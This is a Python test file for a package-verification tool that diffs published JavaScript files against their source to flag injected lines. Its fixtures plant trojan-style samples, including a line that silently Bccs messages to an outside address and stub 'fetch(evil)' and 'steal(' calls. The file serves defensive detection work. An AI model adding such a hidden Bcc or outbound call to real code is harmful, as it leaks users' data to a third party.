import random
import re
import subprocess
import time
from pathlib import Path

import pytest

from provenly.trust.errors import UnavailableError
from provenly.trust.evidence import FileClass
from provenly.verify.comparison.compare import compare
from provenly.verify.comparison.line_diff import Budget, blocks, unified
from provenly.verify.comparison.lines import ranges
from tests.verify.explain.scenes import Objects, file, packed, source_of

SERVER = "".join(
    f"export function tool{n}(input) {{\n  return send({{ to: input.to, n: {n} }});\n}}\n" for n in range(40)
)


def spoiled(text: str, after: int, line: str) -> str:
    lines = text.split("\n")
    return "\n".join([*lines[:after], line, *lines[after:]])


def test_the_postmark_line_is_shown_as_that_line_and_nothing_else():
    line = "  message.Bcc = 'phan@giftshop.club';"
    found = file({"index.js": spoiled(SERVER, 40, line)}, {"index.js": SERVER}, "index.js")
    assert found.file_class is FileClass.UNEXPLAINED
    assert found.lines == ((41, 41),)
    assert found.source == "index.js"
    assert [text for text in found.diff.splitlines() if text[:1] in "+-"][2:] == ["+" + line]
    assert re.match(r"--- a/index\.js@[0-9a-f]{12}\n\+\+\+ b/index\.js\n@@ -38,6 \+38,7 @@\n", found.diff)


@pytest.mark.parametrize(
    ("change", "lines"),
    [
        (lambda text: text.replace("n: 7 ", "n: 8 "), ((23, 23),)),
        (lambda text: text + "fetch(evil);\n", ((121, 121),)),
        (lambda text: "import evil;\n" + text, ((1, 1),)),
        (lambda text: text.replace("  return send({ to: input.to, n: 3 });\n", ""), ((11, 11),)),
        (lambda text: text.replace("n: 5 }", "n: 5 }\r"), ((17, 17),)),
    ],
)
def test_every_trojan_twin_is_shown_at_its_lines(change, lines):
    assert file({"index.js": change(SERVER)}, {"index.js": SERVER}, "index.js").lines == lines


def left_alone(package, source, objects, path):
    """Return what is said of a file that no explainer was asked about."""
    comparison = compare(package, source, objects, explainers=())
    return next(entry for entry in comparison.files if entry.path == path)


def test_a_compiled_file_is_shown_beside_its_typescript():
    typescript = SERVER.replace("(input)", "(input: Input)").replace("\n  ", "\n\t")
    tree = {"src/tools/server.ts": typescript, "src/other/server.ts": "no\n", "test/server.ts": typescript}
    objects = Objects()
    package = packed({"dist/tools/server.js": spoiled(SERVER, 1, "evil();")})
    found = left_alone(package, source_of(objects, tree), objects, "dist/tools/server.js")
    assert found.source == "src/tools/server.ts"
    assert (1, 2) in found.lines
    assert "+evil();" in found.diff


def test_a_file_that_has_nothing_like_it_is_shown_whole():
    found = file({"dist/evil.js": "a\nb\n"}, {"src/index.ts": "x\n"}, "dist/evil.js")
    assert (found.lines, found.diff, found.source) == (((1, 2),), "", "")
    assert "no file like it" in found.detail


def test_binary_files_have_no_diff():
    found = file({"logo.png": b"\x89PNG\0\xff"}, {"logo.png": b"\x89PNG\0\xfe"}, "logo.png")
    assert (found.lines, found.diff) == ((), "")
    assert "no text" in found.detail


class Unreachable(Objects):
    """A repository whose trees are known and whose files are out of reach."""

    def blobs(self, ids):
        raise UnavailableError("the forge does not answer", code="FORGE")


def test_a_source_that_cannot_be_read_leaves_the_file_unexplained_and_says_so():
    memory = Unreachable()
    source = source_of(memory, {"src/index.ts": "x\n"})
    found = left_alone(packed({"dist/index.js": "y\n"}), source, memory, "dist/index.js")
    assert found.file_class is FileClass.UNEXPLAINED
    assert "the forge does not answer" in found.detail


def patched(left: list[str], right: list[str], folder: Path) -> str:
    """Return what the system's patch makes of ``left`` and our diff."""
    (folder / "file").write_text("".join(f"{line}\n" for line in left))
    diff = unified(left, right, blocks(left, right, Budget(10**6)), ("a/file", "b/file"))
    subprocess.run(
        ["git", "apply", "-p1", "--unidiff-zero", "--whitespace=nowarn", "-"],
        input=diff.encode(),
        cwd=folder,
        check=True,
        capture_output=True,
    )
    return (folder / "file").read_text()


@pytest.mark.parametrize("seed", range(12))
def test_git_can_apply_our_diffs(seed: int, tmp_path: Path):
    draw = random.Random(seed)
    left = [str(draw.randrange(12)) for _ in range(60)]
    right = [line for line in left if draw.random() > 0.2] + ["end"]
    right.insert(draw.randrange(20), "new")
    assert patched(left, right, tmp_path) == "".join(f"{line}\n" for line in right)


HOSTILE = {
    "one line repeated": (["x"] * 50_000, ["x"] * 49_000 + ["y"] * 1_000),
    "alternating": (["x"] * 40_000, ["x", "y"] * 20_000),
    "reversed": ([str(n) for n in range(50_000)], [str(n) for n in range(50_000, 0, -1)]),
    "few kinds": ([str(n * n % 7) for n in range(50_000)], [str(n * n % 11) for n in range(50_000)]),
    "nothing in common": ([f"a{n}" for n in range(50_000)], [f"b{n}" for n in range(50_000)]),
    "rotated": ([str(n % 999) for n in range(50_000)], [str((n + 500) % 999) for n in range(50_000)]),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_texts_take_bounded_time_and_lose_no_line(name: str):
    left, right = HOSTILE[name]
    started = time.process_time()
    changed = blocks(left, right, Budget(2_000_000))
    assert time.process_time() - started < 4
    rebuilt: list[str] = []
    position = 0
    for block in changed:
        rebuilt += left[position : block[0]] + right[block[2] : block[3]]
        position = block[1]
    assert rebuilt + left[position:] == right


def test_what_a_file_was_compared_with_is_kept_for_the_patch():
    found = file({"index.js": "a\nb\n", "new.js": "c\n"}, {"index.js": "a\n"}, "index.js")
    assert found.expected == b"a\n"
    assert file({"index.js": "a\n"}, {"index.js": "a\n"}, "index.js").expected is None


def test_a_change_in_a_long_line_is_shown_by_itself():
    line = "".join(f"call({number},'text');" for number in range(5_000))
    found = file({"a.js": line.replace("call(2500,", "steal(2500,") + "\n"}, {"a.js": line + "\n"}, "a.js")
    added = [text for text in found.diff.splitlines()[2:] if text.startswith("+")]
    assert "steal(2500," in "".join(added)
    assert sum(map(len, added)) < 400
    assert found.lines == ((1, 1),)


def test_a_line_that_is_broken_where_pieces_meet_is_a_change():
    line = "x" * 3_000
    found = file({"a.js": f"{line[:1000]}\n{line[1000:]}\n"}, {"a.js": f"{line}\n"}, "a.js")
    assert found.diff
    assert found.lines[0][0] == 1


def test_long_diffs_are_cut_and_say_so():
    many = "".join(f"{'word ' * 20}{n}\n" * 2 for n in range(60_000))
    found = file({"a.js": many}, {"a.js": many.replace("0\n", "a\n")}, "a.js")
    assert len(found.diff) < 4_800_000
    assert re.search(r"\\ [\d,]+ lines of this hunk and [\d,]+ of [\d,]+ hunks are not shown", found.diff)
    assert found.lines[-1][1] > 118_000


@pytest.mark.parametrize(
    ("changed", "count", "expected"),
    [
        ([(0, 0, 2, 4)], 9, ((3, 4),)),
        ([(1, 3, 1, 1)], 9, ((2, 2),)),
        ([(9, 10, 9, 9)], 9, ((9, 9),)),
        ([(0, 1, 0, 0), (5, 6, 4, 6)], 9, ((5, 6),)),
        ([(0, 5, 0, 0)], 0, ((1, 1),)),
    ],
)
def test_ranges_are_packed_lines_from_one(changed, count, expected):
    assert ranges(changed, count) == expected
